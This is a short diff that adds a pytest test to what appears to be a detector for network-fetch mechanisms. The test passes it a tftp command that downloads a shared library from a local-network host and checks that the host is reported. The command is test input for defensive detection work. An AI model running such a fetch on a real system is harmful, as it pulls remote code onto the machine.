@@ -67,6 +67,11 @@ def test_names_the_mechanism_and_its_host(content, value, host):
     assert "hunter2" not in str(found)
 
 
+def test_the_library_that_is_fetched_is_no_host():
+    (found,) = mechanisms(b"tftp -g -r libpart.so 192.168.1.11\n")
+    assert found.observable.value == "tftp-fetch:192.168.1.11"
+
+
 @pytest.mark.parametrize(
     "content",
     [
